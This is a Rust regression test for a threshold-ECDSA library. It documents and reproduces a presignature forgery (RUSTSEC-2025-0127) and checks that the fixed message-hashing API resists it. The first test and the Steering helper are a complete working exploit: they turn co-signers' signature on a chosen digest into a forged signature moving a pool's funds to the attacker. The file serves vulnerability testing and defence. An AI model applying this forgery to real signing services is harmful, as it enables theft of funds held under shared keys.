//! RUSTSEC-2025-0127 (CVE-2025-66017): presignatures + "raw signing" allow forgery.
//!
//! A presignature fixes the nonce point `R` (and `r = R.x mod n`) before anything is
//! signed, and every signer holding it knows `R`. ECDSA's `s·R = z·G + r·X` is then
//! malleable: for any `α ≠ 0`, with `R* = α·R`, `r* = R*.x mod n` and `γ = r*/r`,
//!
//! ```text
//! (γ·s/α)·R* = γ·s·R = γ·z·G + r*·X
//! ```
//!
//! so a signature `(r, s)` on digest `z` converts into `(r*, γ·s/α)`, a valid signature on
//! `γ·z`. A malicious signer that may choose the digest the others sign picks
//! `z = z*·r/r*` for the digest `z*` of a message it wants signed; the honest signers
//! sign the innocent-looking `z`, and the attacker converts the result into a signature
//! on `z*`, which nobody agreed to sign.
//!
//! The first test runs the attack against cggmp21's raw presignature API, the shape our
//! `sign_with_presignature(digest)` had; it must succeed, or the test fails. The second
//! runs the same attacker (a raw cggmp21 party that knows `R` before choosing what to
//! sign) against an honest node using today's `sign_with_presignature(message)`, which
//! signs only `keccak256(message)`; the conversion no longer lands on `z*`.

mod common;

use cggmp21::generic_ec::Scalar as GenericScalar;
use cggmp21::supported_curves::Secp256k1;
use cggmp21::{DataToSign, PartialSignature};
use common::*;
use k256::ecdsa::signature::hazmat::PrehashVerifier;
use k256::ecdsa::{Signature, VerifyingKey};
use k256::elliptic_curve::ops::Reduce;
use k256::elliptic_curve::point::AffineCoordinates;
use k256::elliptic_curve::Field;
use k256::{ProjectivePoint, Scalar, U256};
use rand::rngs::OsRng;
use round_based::MpcParty;
use transport::{Destination, NodeId, SessionConfig};
use tss_core::wire::{decode_message, delivery, encode_message};
use tss_core::{keccak256, EthSignature, KeyShare, ProtocolKind};

type RawKeyShare = cggmp21::KeyShare<Secp256k1>;
type RawPresignature = cggmp21::Presignature<Secp256k1>;

/// What the attacker wants signed: any message it likes (say, an unsigned transaction
/// moving the pool's funds to it). Nobody is ever asked to sign it.
const TARGET: &[u8] = b"attacker's choice: transfer every token of the pool to the attacker";

/// The cggmp21 key share inside one of ours (a party running modified code holds it).
fn raw_share(share: &KeyShare) -> RawKeyShare {
    let stored: serde_json::Value =
        serde_json::from_slice(&share.to_secret_bytes().unwrap()).unwrap();
    serde_json::from_value(stored["share"].clone()).expect("cggmp21 key share")
}

/// `R` of a presignature: public, and known to every signer holding it.
fn nonce_point(presig: &RawPresignature) -> ProjectivePoint {
    k256::PublicKey::from_sec1_bytes(&presig.R.to_bytes(true))
        .expect("a non-zero point")
        .to_projective()
}

/// ECDSA's `r` of a nonce point: its x-coordinate mod n.
fn r_of(point: &ProjectivePoint) -> Scalar {
    <Scalar as Reduce<U256>>::reduce_bytes(&point.to_affine().x())
}

fn scalar(bytes: &[u8; 32]) -> Scalar {
    <Scalar as Reduce<U256>>::reduce_bytes(&(*bytes).into())
}

fn to_cggmp(digest: &[u8; 32]) -> DataToSign<Secp256k1> {
    DataToSign::from_scalar(GenericScalar::from_be_bytes_mod_order(digest))
}

/// `(r, s)` of a combined cggmp21 signature.
fn rs(sig: &cggmp21::Signature<Secp256k1>) -> ([u8; 32], [u8; 32]) {
    let mut bytes = [0u8; 64];
    sig.write_to_slice(&mut bytes);
    (
        bytes[..32].try_into().unwrap(),
        bytes[32..].try_into().unwrap(),
    )
}

/// Does `(r, s)` (either sign of s) verify on `digest` under `key`? (k256 only accepts
/// low s, as Ethereum does.)
fn verifies(key: &VerifyingKey, digest: &[u8; 32], r: [u8; 32], s: [u8; 32]) -> bool {
    let Ok(sig) = Signature::from_scalars(r, s) else {
        return false;
    };
    let sig = sig.normalize_s().unwrap_or(sig);
    key.verify_prehash(digest, &sig).is_ok()
}

/// The attacker's move for one presignature: multiply `R` by `α`.
struct Steering {
    alpha: Scalar,
    r: Scalar,
    r_star: Scalar,
}

impl Steering {
    fn new(nonce_point: ProjectivePoint) -> Self {
        let alpha = loop {
            let a = Scalar::random(&mut OsRng);
            if a != Scalar::ZERO && a != Scalar::ONE {
                break a;
            }
        };
        Self {
            alpha,
            r: r_of(&nonce_point),
            r_star: r_of(&(nonce_point * alpha)),
        }
    }

    /// `γ = r*/r`.
    fn gamma(&self) -> Scalar {
        self.r_star * self.r.invert().unwrap()
    }

    /// The digest to have signed so that the result converts into a signature on
    /// `target`: `z = z*·r/r* = z*/γ`.
    fn digest_to_request(&self, target: &[u8; 32]) -> [u8; 32] {
        (scalar(target) * self.gamma().invert().unwrap())
            .to_bytes()
            .into()
    }

    /// Where a signature on `z` lands after [`Steering::convert`]: `γ·z`.
    fn converted_digest(&self, z: &[u8; 32]) -> [u8; 32] {
        (scalar(z) * self.gamma()).to_bytes().into()
    }

    /// `(r, s)` on `z` ↦ `(r*, γ·s/α)` on `γ·z` (low s).
    fn convert(&self, r: [u8; 32], s: [u8; 32]) -> ([u8; 32], [u8; 32]) {
        assert_eq!(scalar(&r), self.r, "signature made with this presignature");
        let s_star = self.gamma() * scalar(&s) * self.alpha.invert().unwrap();
        let sig = Signature::from_scalars(self.r_star.to_bytes(), s_star.to_bytes()).unwrap();
        let sig = sig.normalize_s().unwrap_or(sig);
        let (r, s) = sig.split_bytes();
        (r.into(), s.into())
    }
}

/// cggmp21 presigning among `shares` (keygen indices `0..shares.len()`), all parties in
/// this process on round_based's simulated network.
async fn raw_presign(shares: &[RawKeyShare]) -> Vec<RawPresignature> {
    let eid: [u8; 32] = rand::random();
    let indices: Vec<u16> = (0..shares.len() as u16).collect();
    round_based::sim::async_env::run(shares.len() as u16, |i, party| {
        let (share, indices) = (&shares[usize::from(i)], &indices);
        async move {
            cggmp21::signing(cggmp21::ExecutionId::new(&eid), i, indices, share)
                .generate_presignature(&mut OsRng, party)
                .await
        }
    })
    .await
    .expect_ok()
    .into_vec()
}

#[tokio::test(flavor = "multi_thread")]
async fn raw_digest_presigning_lets_a_signer_forge_any_message() {
    let pool = shared_2_of_3().await;
    let parties = &pool.parties;
    let key = parties[0].share.public_key();
    let address = parties[0].share.ethereum_address();
    // Signers: parties 0 (malicious) and 1 (honest), presigning with cggmp21 directly.
    let shares: Vec<RawKeyShare> = parties[..2].iter().map(|p| raw_share(&p.share)).collect();
    let presigs = raw_presign(&shares).await;

    // The malicious signer reads R off its presignature, picks α and computes the digest
    // to hand to the others for "raw signing".
    let steering = Steering::new(nonce_point(&presigs[0]));
    let target = keccak256(TARGET);
    let requested = steering.digest_to_request(&target);
    assert_ne!(requested, target);

    // The old API shape: every signer issues its partial signature on the digest it is
    // given, without seeing any message.
    let partials: Vec<PartialSignature<Secp256k1>> = presigs
        .into_iter()
        .map(|p| p.issue_partial_signature(to_cggmp(&requested)))
        .collect();
    let (r, s) = rs(&PartialSignature::combine(&partials).expect("combine"));
    assert!(
        verifies(&key, &requested, r, s),
        "the signers signed `requested`"
    );

    // The forgery: a valid signature on the target, which no signer was asked to sign.
    let (r_star, s_star) = steering.convert(r, s);
    assert!(
        verifies(&key, &target, r_star, s_star),
        "the converted signature must verify on the attacker's digest (if this fails, \
         the attack no longer reproduces: revisit RUSTSEC-2025-0127 handling)"
    );
    // What an L1 contract's ecrecover sees: the pool's address signed the target.
    let forged = EthSignature::from_rs(r_star, s_star, &target, &key).expect("valid");
    assert_eq!(forged.recover_address(&target).unwrap(), address);
}

#[tokio::test(flavor = "multi_thread")]
async fn message_presigning_cannot_be_steered_to_a_chosen_digest() {
    let pool = shared_2_of_3().await;
    let parties = pool.parties.clone();
    let (attacker, honest) = (&parties[0], &parties[1]);
    let key = honest.share.public_key();
    let address = honest.share.ethereum_address();
    let key_id = honest.share.key_id().clone();
    let ids: Vec<NodeId> = vec![attacker.node.node_id(), honest.node.node_id()];
    let eid = fresh_eid(ProtocolKind::Presign, &key_id, &ids);
    let session = |label: Option<&str>| {
        let id = label.map_or(eid, |l| eid.sub(l));
        attacker
            .node
            .transport()
            .open_session(id.session_id(), SessionConfig::new(ids.clone()))
            .expect("attacker's session")
    };

    // The honest signer presigns with our API. The attacker runs cggmp21 itself over its
    // own endpoint (modified code), so it holds the raw presignature and R.
    let honest_presign = {
        let (parties, ids) = (parties.clone(), ids.clone());
        tokio::spawn(async move {
            let p = &parties[1];
            p.node.presign(&p.share, &ids, eid).await
        })
    };
    let presig = cggmp21::signing(
        cggmp21::ExecutionId::new(eid.as_bytes()),
        0,
        &[0, 1],
        &raw_share(&attacker.share),
    )
    .generate_presignature(&mut OsRng, MpcParty::connected(delivery(session(None))))
    .await
    .expect("attacker's presignature");
    assert_eq!(honest_presign.await.unwrap().expect("honest presign"), eid);

    // Knowing R before anything is signed, the attacker does what worked against raw
    // signing: it asks for `z*·r/r*`, now as the message (the only input there is).
    let steering = Steering::new(nonce_point(&presig));
    let target = keccak256(TARGET);
    let message = steering.digest_to_request(&target);
    let honest_sign = {
        let (parties, key_id) = (parties.clone(), key_id.clone());
        tokio::spawn(async move {
            parties[1]
                .node
                .sign_with_presignature(&key_id, eid, &message)
                .await
        })
    };
    // The attacker's online round. Its partial must be on the digest the honest signer
    // uses, keccak256(message), or the combination is no signature at all.
    let signed = keccak256(&message);
    let mine = presig.issue_partial_signature(to_cggmp(&signed));
    let mut online = session(Some("online"));
    online
        .send(Destination::Broadcast, encode_message(&mine).unwrap())
        .unwrap();
    let reply = online.recv().await.expect("honest partial signature");
    let theirs: PartialSignature<Secp256k1> = decode_message(reply.from, &reply.payload).unwrap();
    let (r, s) = rs(&PartialSignature::combine(&[mine, theirs]).expect("combine"));

    // The honest node signed keccak256(message), and only that.
    let honest_sig = honest_sign.await.unwrap().expect("honest online signing");
    assert_eq!(honest_sig.recover_address(&signed).unwrap(), address);
    assert_eq!(honest_sig.r, r);
    assert!(verifies(&key, &signed, r, s));
    assert!(
        !verifies(&key, &message, r, s),
        "the raw digest was not signed"
    );

    // The conversion still "works", but it lands on γ·keccak256(message), not on the
    // target. To land on z* the attacker needs keccak256(message) = z*·r/r*: for a
    // fixed α that is a keccak256 preimage; with α and both messages free, a 2^128
    // birthday search for keccak256(m)·r*(α) = keccak256(m*)·r, as hard as a keccak
    // collision. And a signature on a digest nobody knows a preimage of is worthless:
    // anyone can make one from the public key alone (z = u·r/v with R = u·G + v·X).
    let (r_star, s_star) = steering.convert(r, s);
    assert!(
        !verifies(&key, &target, r_star, s_star),
        "forgery on the attacker's digest must fail"
    );
    assert!(verifies(
        &key,
        &steering.converted_digest(&signed),
        r_star,
        s_star
    ));
}
